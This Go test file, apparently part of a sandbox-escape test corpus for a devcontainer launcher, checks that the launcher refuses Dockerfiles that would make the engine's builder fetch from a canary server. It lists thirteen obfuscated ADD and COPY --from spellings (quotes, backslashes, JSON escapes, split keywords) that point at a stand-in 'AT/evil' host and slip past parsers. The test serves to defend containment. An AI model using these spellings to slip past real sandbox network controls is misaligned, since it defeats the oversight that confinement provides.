package corpus

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"

	"cloister/escape"
	"cloister/escape/corpus/contained"
)

// spellings are Dockerfiles by which the engine's own builder fetches from AT by itself,
// past the network of the steps, each with the line that says so.
func spellings() map[string]struct {
	text string
	line int
} {
	type spelling = struct {
		text string
		line int
	}
	return map[string]spelling{
		"an address":                             {"FROM scratch\nADD http://AT/x /x\n", 2},
		"an address in JSON's escapes":           {"FROM scratch\nADD [\"http:\\u002f/AT/x\", \"/x\"]\n", 2},
		"an address in a list":                   {"FROM scratch\nADD [\"http:\\/\\/AT/x\", \"/x\"]\n", 2},
		"a list with more after it":              {"FROM scratch\nADD [\"http:\\/\\/AT/x\", \"/x\"] x\n", 2},
		"an address with quotes":                 {"FROM scratch\nADD http:\"\"//AT/x /x\n", 2},
		"an address with a backslash":            {"FROM scratch\nADD http:\\//AT/x /x\n", 2},
		"an address with quotes in a list":       {"FROM scratch\nADD [\"http:''//AT/x\", \"/x\"]\n", 2},
		"an address by an argument":              {"FROM scratch\nARG u=http://AT/x\nADD $u /x\n", 3},
		"a word over two lines":                  {"FROM scratch\nAD\\\nD http://AT/x /x\n", 2},
		"an image":                               {"FROM scratch\nCOPY --from=AT/evil:1 /x /x\n", 2},
		"an image by a flag with quotes":         {"FROM scratch\nCOPY --f\"rom\"=AT/evil:1 /x /x\n", 2},
		"an image by a flag with a backslash":    {"FROM scratch\nCOPY --fr\\om=AT/evil:1 /x /x\n", 2},
		"an image after a byte that is no space": {"FROM scratch\nCOPY --chown=\u00e0--from=AT/evil:1 /x /x\n", 2},
	}
}

func sc02b() escape.Case {
	return escape.Case{
		ID: "SC-02b", Class: "spellings of a Dockerfile",
		Attack: "a devcontainer's Dockerfile that names an address or an image in thirteen spellings by which the engine's builder fetches from a server of this machine by itself: each is refused by its line before the engine gets it",
		Source: "moby builder/dockerfile, BuildKit's parser; docs/decisions/0051", Layers: []string{"launcher"},
		Host: hosted("  auto_approve:\n    - pattern: \"^pwd$\"\n", func(r *ruled) []escape.Finding {
			var asked atomic.Int64
			canary := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				asked.Add(1)
				if strings.HasPrefix(r.URL.Path, "/v2") {
					w.WriteHeader(http.StatusNotFound)
				}
			}))
			defer canary.Close()
			at := strings.TrimPrefix(canary.URL, "http://")
			if err := r.w.Write(r.project+"/.devcontainer/devcontainer.json", `{"build":{"dockerfile":"Dockerfile"}}`); err != nil {
				return escape.NoHost("write a devcontainer", err)
			}
			var out []escape.Finding
			all := spellings()
			for _, name := range slices.Sorted(maps.Keys(all)) {
				text := strings.ReplaceAll(all[name].text, "AT", at)
				if err := r.w.Write(r.project+"/.devcontainer/Dockerfile", text); err != nil {
					return escape.NoHost("write a Dockerfile", err)
				}
				agreed := r.cloister("devcontainer", "trust", "-C", r.project)
				res := r.cloister("devcontainer", "build", "-C", r.project)
				out = append(out, found(name+" is refused by its line", agreed.Status == 0 && res.Status == 1 && asked.Load() == 0 &&
					strings.Contains(res.Stderr, fmt.Sprintf(".devcontainer/Dockerfile:%d: ", all[name].line)),
					"asked %d times, status %d: %s", asked.Load(), res.Status, res.Stderr))
			}
			if r.w.Kind.Isolation != "docker" {
				return out // the control needs an engine
			}
			for _, name := range slices.Sorted(maps.Keys(all)) {
				asked.Store(0)
				err := builds(contained.EngineOf(r.w), strings.ReplaceAll(all[name].text, "AT", at))
				out = append(out, found("control: the engine alone fetches by "+name, err == nil && asked.Load() > 0, "%v", err))
			}
			return out
		}),
	}
}

// builds has the engine's own builder carry out a Dockerfile, as anybody would, and
// removes what comes of it. That a build fails is no error.
func builds(e contained.Engine, text string) error {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	err := w.WriteHeader(&tar.Header{Name: "Dockerfile", Mode: 0o644, Size: int64(len(text))})
	if err == nil {
		_, err = w.Write([]byte(text))
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		return err
	}
	said, err := e.Send(http.MethodPost, "/build?version=1&nocache=1&rm=1&forcerm=1&networkmode=none", "application/x-tar", b.Bytes())
	if err != nil {
		return err
	}
	for line := range bytes.Lines(said) {
		var built struct{ Aux struct{ ID string } }
		if json.Unmarshal(line, &built) == nil && built.Aux.ID != "" {
			return e.Ask(http.MethodDelete, "/images/"+built.Aux.ID+"?force=1", nil, nil)
		}
	}
	return nil
}
